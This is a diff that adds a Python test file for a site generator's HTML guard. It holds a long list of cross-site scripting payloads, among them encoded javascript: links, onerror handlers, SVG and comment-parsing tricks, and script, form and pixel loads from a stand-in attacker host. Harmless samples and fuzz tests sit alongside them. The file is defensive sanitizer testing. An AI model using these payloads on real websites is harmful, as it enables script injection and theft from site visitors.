@@ -1,0 +1,209 @@
+"""The guard: nothing that can act gets past it, and nothing that the site writes is stopped by it."""
+
+from __future__ import annotations
+
+import html5lib
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown import Markdown
+
+from generator.guard import ATTRIBUTES, TAGS, active_html, active_title
+from generator.markdown.verifying import SITE_EXTENSIONS
+
+ACTIVE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script",
+    "<script ",
+    "<p>text<scr\nipt>",
+    "<scr\x00ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x"onerror="alert(1)">',
+    "<img src=https://evil.example/pixel.gif>",
+    "<img src=//evil.example/pixel.gif>",
+    "<img src='\\\\evil.example/a'>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<img srcset='https://evil.example/a 1x'>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java&#x0a;script:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="&#x6A&#x61;vascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="data:text/html,x">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<p style="background:url(//evil.example)">x</p>',
+    '<p style="text-align: left; position: fixed">x</p>',
+    '<p onclick="alert(1)">x</p>',
+    "<p onmouseover=alert(1)>x</p>",
+    "<iframe src=/a></iframe>",
+    "<object data=a></object>",
+    "<embed src=a>",
+    "<form action=//evil.example><input><button>x</button></form>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/a.css>",
+    "<style>p { background: url(//evil.example) }</style>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<svg><use href=//evil.example/a.svg#x /></svg>",
+    "<svg><animate onbegin=alert(1)></svg>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><img src=x onerror=alert(1)></noscript>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=//evil.example/a></audio>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<!--><script>alert(1)</script>-->",
+    "<!---><script>alert(1)</script>-->",
+    "<!-- --!><script>alert(1)</script> -->",
+    "<!-- never closed",
+    "<!DOCTYPE html>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "<?xml-stylesheet href='//evil.example/a'?>",
+    "<x-thing onclick=alert(1)>",
+    "</p><script>alert(1)</script><p>",
+    '<a href="a" formaction="b">x</a>',
+    '<div contenteditable autofocus onfocus="alert(1)">x</div>',
+    "<p is=x-thing>x</p>",
+    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
+]
+
+HARMLESS = [
+    "",
+    "plain",
+    "<p>2 &lt; 3 &amp; 4 &gt; 1, <em>so</em> it is.</p>",
+    '<p id="a" class="b c">“Nobody,” he said.<sup id="fnref:x"><a class="d" href="#fn:x">1</a></sup></p>',
+    '<a href="https://example.org/a#:~:text=one,two">x</a> <a href="../a.md#b">y</a>',
+    '<a href="mailto:a@b.example">z</a> <a href="a/b:c" title="javascript:alert(1)">x</a>',
+    '<img alt="Bars" src="pictures/quoted-words.svg">',
+    '<table><thead><tr><th style="text-align: right;">A</th></tr></thead></table>',
+    "<!-- a plain comment --><p>x</p>",
+    '<details><summary>More</summary><p lang="ar" dir="rtl">x</p></details>',
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M4 4z"/></svg>',
+    '<ol start="3"><li>x</li></ol><hr><time datetime="2024-10-23">then</time>',
+]
+
+
+@pytest.mark.parametrize("content", ACTIVE)
+def test_what_can_act_is_found(content: str) -> None:
+    assert active_html(content)
+    assert active_html(f"<p>before</p>{content}<p>after</p>")
+
+
+@pytest.mark.parametrize("content", HARMLESS)
+def test_what_cannot_act_is_not_found(content: str) -> None:
+    assert active_html(content) == ()
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;",
+        "a &lt;!-- b",
+        "<em>&lt;b onclick=x&gt;</em>",
+    ],
+)
+def test_a_title_that_becomes_markup_in_the_head_is_found(title: str) -> None:
+    assert active_title(title)
+
+
+@pytest.mark.parametrize(
+    "title", ["Bridge closed", "2 &lt; 3", "<em>Bridge</em> closed", "AT&amp;T", "a < b > c"]
+)
+def test_a_plain_title_is_not(title: str) -> None:
+    assert active_title(title) is None
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "<",
+            ">",
+            "</",
+            "/>",
+            "<!--",
+            "-->",
+            "--!>",
+            "<!",
+            "<?",
+            "]]>",
+            "=",
+            '"',
+            "'",
+            "`",
+            " ",
+            "\n",
+            "\t",
+            "\0",
+        ),
+        *(
+            "&lt;",
+            "&#60;",
+            "&",
+            ";",
+            "script",
+            "img",
+            "svg",
+            "math",
+            "a",
+            "p",
+            "em",
+            "style",
+            "title",
+            "table",
+        ),
+        *(
+            "src",
+            "href",
+            "onerror",
+            "style",
+            "class",
+            "id",
+            "javascript:",
+            "//e.example",
+            "x",
+            "alert(1)",
+            "/",
+        ),
+    ]
+)
+
+
+@settings(max_examples=1_500, deadline=None)
+@given(st.lists(PIECES, max_size=14).map("".join))
+def test_what_gets_past_is_harmless_to_a_browsers_parser(content: str) -> None:
+    if active_html(content):
+        return
+    fragment = html5lib.parseFragment(content, namespaceHTMLElements=False)
+    for element in fragment.iter():
+        if isinstance(element.tag, str) and element is not fragment:
+            name = element.tag.rpartition("}")[2].lower()
+            assert name in TAGS, content
+            for attribute, value in element.attrib.items():
+                plain = str(attribute).lower()
+                assert plain in ATTRIBUTES or plain == "style" or plain.startswith(("aria-", "data-")), (
+                    content
+                )
+                assert "javascript:" not in value.lower().replace(" ", "") or plain not in {"href", "src"}, (
+                    content
+                )
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.lists(PIECES, max_size=14).map("".join))
+def test_markdown_that_gets_past_is_harmless_too(content: str) -> None:
+    rendered = Markdown(extensions=list(SITE_EXTENSIONS)).convert(content)
+    if active_html(rendered):
+        return
+    fragment = html5lib.parseFragment(rendered, namespaceHTMLElements=False)
+    elements = [e for e in fragment.iter() if e is not fragment and isinstance(e.tag, str)]
+    assert {e.tag.rpartition("}")[2].lower() for e in elements} <= TAGS, content
